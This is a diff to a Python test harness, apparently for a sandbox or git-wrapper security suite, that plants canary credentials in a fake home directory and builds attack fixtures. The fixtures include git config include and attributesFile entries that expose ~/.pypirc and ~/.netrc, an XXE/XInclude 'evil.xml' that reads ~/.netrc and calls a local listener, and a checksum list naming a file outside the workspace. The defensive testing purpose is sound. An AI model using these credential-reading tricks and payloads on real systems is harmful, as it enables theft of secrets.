@@ -124,6 +124,8 @@ def build_template(repo: Path, canary_dir: Path, home: Path) -> None:
     (repo / "blob.bin").write_text("binary-ish changed\n")
     (repo / "scratch.txt").write_text("untracked\n")
 
+    _archives(repo, home, env)
+
     for sample in hooks_dir(repo).glob("*.sample"):
         sample.unlink()  # fewer files to copy and compare for every attack
     _git(repo, "repack", "-q", "-a", "-d", env=env)
@@ -159,9 +161,40 @@ def build_template(repo: Path, canary_dir: Path, home: Path) -> None:
             f'\tst = "!{ran("alias")}"\n'
             "[log]\n"
             "\tshowSignature = true\n"
+            # Files outside the workspace whose content git prints if asked the right way:
+            # `git config --list` shows what an include pulls in, `git check-attr` the words
+            # of an attributes file.
+            "[include]\n"
+            f"\tpath = {home}/.pypirc\n"
+            "[core]\n"
+            f"\tattributesFile = {home}/.netrc\n"
             "[gpg]\n"
             f'\tprogram = "{canary_dir}/gpg"\n'
         )
+
+
+def _archives(repo: Path, home: Path, env: Mapping[str, str]) -> None:
+    """Untracked files for the archive, XML and checksum attacks: a tar and a zip archive,
+    an XML file that names an external DTD, parameter entity and XInclude on the listener
+    and a secret, and checksum lists that name a file outside the workspace."""
+    import tarfile
+    import zipfile
+
+    with tarfile.open(repo / "archive.tar.gz", "w:gz") as tar:
+        tar.add(repo / "README.md", arcname="README.md")
+    with zipfile.ZipFile(repo / "archive.zip", "w") as zf:
+        zf.write(repo / "README.md", arcname="README.md")
+    (repo / "evil.xml").write_text(
+        '<?xml version="1.0"?>\n'
+        f'<!DOCTYPE r SYSTEM "http://127.0.0.1:{PORT}/x.dtd" [\n'
+        f'<!ENTITY e SYSTEM "file://{home}/.netrc">\n'
+        f'<!ENTITY % p SYSTEM "http://127.0.0.1:{PORT}/p.ent">\n'
+        "%p;\n]>\n"
+        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><a>&e;</a>'
+        f'<xi:include href="{home}/.netrc" parse="text"/></r>\n'
+    )
+    digest = "0" * 64
+    (repo / "SUMS").write_text(f"{digest}  README.md\n{digest}  {home}/.netrc\n")
 
 
 def hooks_dir(repo: Path) -> Path:
@@ -177,6 +210,8 @@ def fake_home(home: Path, token: str) -> None:
         ".git-credentials": f"https://a:{token}@example.com\n",
         ".config/gcloud/credentials.db": f"{token}\n",
         ".gitconfig": "[user]\n\tname = a\n\temail = a@example.com\n",
+        # Valid git configuration syntax: a repository's `include.path` can pull it in.
+        ".pypirc": f"[pypi]\n\tusername = __token__\n\tpassword = {token}\n",
     }.items():
         path = home / rel
         path.parent.mkdir(parents=True, exist_ok=True)
